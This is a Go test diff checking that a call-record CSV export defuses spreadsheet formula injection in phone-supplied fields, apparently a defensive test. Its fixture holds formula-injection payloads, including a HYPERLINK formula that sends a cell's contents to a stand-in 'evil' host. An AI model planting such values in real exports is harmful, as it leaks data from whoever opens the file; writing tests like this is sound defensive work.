@@ -35,3 +35,28 @@ func TestCallsShowTransfers(t *testing.T) {
 		t.Errorf("CSV = %q", rows)
 	}
 }
+
+// Whatever a phone chose (a Call-ID, the dialled string, its name) cannot
+// run as a formula in a spreadsheet; numbers stay numbers.
+func TestCallsCSVDefusesFormulas(t *testing.T) {
+	start := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
+	calls := []store.CallRecord{{ID: `=HYPERLINK("http://evil/"&A1,"x")`, Direction: store.Internal, Caller: "+4930123456",
+		CallerName: "@SUM(1)", Callee: `=HYPERLINK("//evil.example/x","y")`, Start: start, End: start,
+		Disposition: store.Failed, Cause: "-1+1"}}
+	var out bytes.Buffer
+	if err := writeCallsCSV(&out, calls); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && cell != "+4930123456" {
+			t.Errorf("column %s = %q", rows[0][i], cell)
+		}
+	}
+	if rows[1][2] != "+4930123456" {
+		t.Errorf("caller = %q, want the number as it is", rows[1][2])
+	}
+}
